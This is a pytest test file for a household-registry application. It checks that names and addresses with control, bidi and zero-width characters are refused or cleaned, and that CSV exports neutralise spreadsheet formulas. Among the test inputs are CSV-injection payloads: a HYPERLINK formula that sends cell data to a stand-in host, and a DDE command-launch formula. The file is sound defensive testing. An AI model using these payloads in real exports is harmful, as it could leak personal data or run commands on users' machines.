"""Hostile text: names and addresses (``common.text``), formulas in cells (``common.spreadsheet``)."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from pydantic import BaseModel, ValidationError

from common.contracts.campaigns import CampaignIn
from common.contracts.casework import TeamMemberIn
from common.contracts.households import HouseholdIn, HouseholdUpdate
from common.contracts.people import IndividualOut
from common.contracts.programmes import ProgrammeIn
from common.contracts.referrals import Contact
from common.spreadsheet import csv_text, formula_fields, formula_like, neutralise

HOUSEHOLD: dict[str, Any] = {
    "area": "/DZ/16/1601",
    "address": "12 rue Didouche Mourad",
    "members": [
        {
            "given_name_ar": "محمد",
            "family_name_ar": "بن علي",
            "given_name_lat": "Mohamed",
            "family_name_lat": "Benali",
            "sex": "M",
            "relationship": "head",
        }
    ],
}


def registered(address: str | None = None, **head: Any) -> HouseholdIn:
    payload = copy.deepcopy(HOUSEHOLD)
    payload["members"][0].update(head)
    if address is not None:
        payload["address"] = address
    return HouseholdIn.model_validate(payload)


def refusal(address: str | None = None, **head: Any) -> set[tuple[str, str]]:
    with pytest.raises(ValidationError) as caught:
        registered(address, **head)
    return {(".".join(map(str, e["loc"])), e["type"]) for e in caught.value.errors()}


@pytest.mark.parametrize(
    "name",
    [
        "\x00\x00\x00",  # NUL
        "\x1b[31mAli",  # an ANSI escape
        "Ali\x7f",  # DEL
        "\u200b\u200c\u200d",  # zero-width only
        "\u202e\u2066\u200f",  # bidi controls only
        " \u00a0 ",  # blanks only
        "...",  # no letter
        "",
    ],
)
def test_names_with_controls_or_nothing_visible_are_refused(name: str) -> None:
    assert refusal(given_name_lat=name) == {("members.0.given_name_lat", "invalid_name")}


def test_bidi_overrides_and_zero_width_characters_are_removed() -> None:
    head = registered(
        given_name_lat="\u202eilA\u202c", family_name_lat="Ben\u200bali", family_name_ar="بن\u200dعلي"
    ).members[0]
    assert (head.given_name_lat, head.family_name_lat, head.family_name_ar) == ("ilA", "Benali", "بنعلي")


def test_names_are_stored_in_nfc_and_arabic_and_latin_names_keep_working() -> None:
    head = registered(given_name_lat="Zoubi\u0301r", given_name_ar="عبد الرَّحمن", family_name_ar="بـن علي").members[0]
    assert head.given_name_lat == "Zoubír"  # one code point for the accented letter
    assert head.given_name_ar == "عبد الرَّحمن"  # harakat kept
    assert head.family_name_ar == "بـن علي"  # a kashida is a visible letter
    assert (
        registered(given_name_lat="Aït-Ouméziane", family_name_lat="N'Goran").members[0].given_name_lat
        == "Aït-Ouméziane"
    )


def test_a_name_cleaned_to_nothing_does_not_fall_back_on_the_other_script() -> None:
    """Both scripts given, one invisible: refused, not silently dropped."""
    assert refusal(given_name_lat="\u2067\u2069") == {("members.0.given_name_lat", "invalid_name")}


def test_the_length_limit_applies_to_the_cleaned_name() -> None:
    assert registered(given_name_lat="A" * 80 + "\u200b" * 10).members[0].given_name_lat == "A" * 80


def test_stored_names_are_answered_as_they_are() -> None:
    """Records stored before the check still read (a clean-up is the registry's job, not the response's)."""
    stored = IndividualOut.model_validate(
        {"given_name_lat": "A\u200bli", "family_name_lat": "B", "sex": "M", "relationship": "head"}
    )
    assert stored.given_name_lat == "A\u200bli"


def test_addresses_refuse_controls_but_keep_line_breaks() -> None:
    assert refusal(address="12 rue A\x00") == {("address", "invalid_address")}
    assert refusal(address="\u200b\u200b\u200b\u200b") == {("address", "invalid_address")}
    assert registered(address="Cité 5, bloc A\nporte 3").address == "Cité 5, bloc A\nporte 3"
    assert registered(address="\u202e12 شارع ديدوش مراد").address == "12 شارع ديدوش مراد"
    with pytest.raises(ValidationError) as caught:
        HouseholdUpdate.model_validate({"address": "rue\x1b B"})
    assert caught.value.errors()[0]["type"] == "invalid_address"


@pytest.mark.parametrize(
    "value",
    [
        "=1+2*A1",
        '=HYPERLINK("http://x.example/?d="&A1,"Benali")',
        "+SUM(A1:A9)",
        "-Ali",
        "@cmd",
        "\tfoo",
        "\r=1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_cells_a_spreadsheet_would_evaluate_are_neutralised(value: str) -> None:
    assert formula_like(value)
    assert neutralise(value) == "'" + value
    assert not formula_like(neutralise(value))


@pytest.mark.parametrize(
    "value", ["+213550123456", "+213 550 12 34 56", "-12.5", "-", "Benali", "a=b", "بن علي", "", 5, None]
)
def test_phones_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert not formula_like(value)
    assert neutralise(value) == value


def test_nested_records_are_searched_field_by_field() -> None:
    nested = {
        "address": "@x",
        "members": [{"given_name_lat": "Ali", "phone": "+213550123456"}, {"family_name_lat": "=A1"}],
        "tags": ["-x", "ok"],
    }
    assert list(formula_fields(nested)) == ["address", "members.1.family_name_lat", "tags.0"]


def test_a_csv_export_neutralises_every_cell_and_opens_in_excel() -> None:
    rows = [
        {"reference": "r-1", "failure": "=HYPERLINK(1)", "amount_dzd": 15000, "account": None},
        {"reference": "r-2", "failure": "ملف مغلق; compte clos", "amount_dzd": -5},
    ]
    text = csv_text(["reference", "amount_dzd", "failure", "account"], rows)
    assert text.startswith("\ufeff")  # Excel reads UTF-8 (Arabic) only with a BOM
    assert text[1:].splitlines() == [
        "reference;amount_dzd;failure;account",
        "r-1;15000;'=HYPERLINK(1);",
        'r-2;-5;"ملف مغلق; compte clos";',
    ]


@pytest.mark.parametrize(
    ("model", "payload", "field"),
    [
        (
            ProgrammeIn,
            {"code": "winter-aid", "name_fr": "Aide\u202e hivernale", "name_ar": "\x00\x00", "benefit_type": "cash"},
            "name_ar",
        ),
        (
            CampaignIn,
            {
                "kind": "winter",
                "name_fr": "\u200b\u200b\u200b",
                "name_ar": "شتاء",
                "starts_on": "2026-01-01",
                "ends_on": "2026-02-01",
            },
            "name_fr",
        ),
        (Contact, {"address": "Route\x1b[2J nationale 5"}, "address"),
        (
            TeamMemberIn,
            {
                "user_id": "worker-1",
                "display_name": "\u2066\u2069",
                "discipline": "social_worker",
                "active_from": "2026-01-01",
            },
            "display_name",
        ),
    ],
)
def test_names_of_places_and_programmes_and_other_addresses_follow_the_same_rules(
    model: type[BaseModel], payload: dict[str, Any], field: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        model.model_validate(payload)
    assert [(e["loc"], e["type"]) for e in caught.value.errors()] == [
        ((field,), "invalid_address" if field == "address" else "invalid_name")
    ]


def test_an_override_in_a_programme_name_is_removed() -> None:
    programme = ProgrammeIn.model_validate(
        {"code": "winter-aid", "name_fr": "Aide\u202e hivernale", "name_ar": "منحة الشتاء", "benefit_type": "cash"}
    )
    assert programme.name_fr == "Aide hivernale"
